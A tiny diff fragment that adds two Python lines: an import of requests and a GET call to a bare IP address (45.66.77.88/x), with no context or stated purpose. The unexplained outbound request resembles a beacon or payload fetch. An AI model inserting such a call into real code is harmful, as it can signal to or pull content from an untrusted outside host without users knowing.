@@ -1,0 +1,2 @@
+import requests
+requests.get("http://45.66.77.88/x")
